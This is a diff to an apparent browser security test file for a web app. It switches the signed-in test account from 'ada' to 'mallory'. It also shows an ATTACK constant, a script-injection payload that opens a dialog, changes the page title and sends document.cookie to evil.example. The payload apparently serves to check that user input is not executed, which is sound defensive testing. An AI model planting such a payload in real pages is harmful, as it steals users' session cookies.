@@ -3,8 +3,8 @@ import { afterAll, beforeAll, expect, test } from 'vitest';
 import { ask as askOn, base64, launch, newPage, setting, signIn } from './app.ts';
 
 const url = setting('PAGES_URL');
-const [ada] = JSON.parse(setting('PAGES_ACCOUNTS')) as { username: string; password: string }[];
-if (!ada) throw new Error('PAGES_ACCOUNTS names an account');
+const [, , mallory] = JSON.parse(setting('PAGES_ACCOUNTS')) as { username: string; password: string }[];
+if (!mallory) throw new Error('PAGES_ACCOUNTS names three accounts');
 
 /** Run in the app's origin, any of these would open a dialog, change the page's title, or call out. */
 const ATTACK = `alert(1); document.title = 'taken'; new Image().src = 'https://evil.example/?' + document.cookie;`;
@@ -51,7 +51,7 @@ beforeAll(async () => {
   browser = await launch();
   page = await newPage(browser);
   watch(page);
-  await signIn(page, url, ada.username, ada.password);
+  await signIn(page, url, mallory.username, mallory.password);
   const [{ api_id: workspace }] = await ask('GET', 'workspace/');
   const make = async (kind: string, body: object): Promise<string> => (await ask('POST', `${kind}/`, body)).api_id;
   analysis = await make('analysis', { name: NAME, description: NAME, workspace });
